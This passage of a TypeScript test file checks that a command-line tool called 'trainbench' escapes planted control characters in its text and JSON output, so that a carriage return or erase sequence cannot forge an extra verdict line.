    const r = await trainbench('optimise', '--resume', WIZARD, '--workspace', ow.dir);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(UNSHOWABLE);
    expect(r.stderr).not.toMatch(UNSHOWABLE);
    const diagnosis = r.stdout.split('\n').find((l) => l.startsWith('diagnosis'));
    expect(diagnosis).toContain(ESCAPED);
    // One line each: the planted CR and erase cannot draw a verdict line of their own.
    expect(r.stdout.split('\n').filter((l) => l.startsWith('verdict'))).toHaveLength(1);
    expect(r.stdout.split('\n').filter((l) => l.includes(ESCAPED)).length).toBeGreaterThanOrEqual(1 + 1 + 2 + 6);
  });

  it('optimise --resume --json writes them as \\u escapes', async () => {
    const r = await trainbench('optimise', '--resume', WIZARD, '--json', '--workspace', ow.dir);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(UNSHOWABLE);
    const parsed = JSON.parse(r.stdout) as { target?: unknown; diagnosis: { summary: string } };
    expect(parsed.diagnosis.summary.endsWith(PLANT)).toBe(true);
  });
});
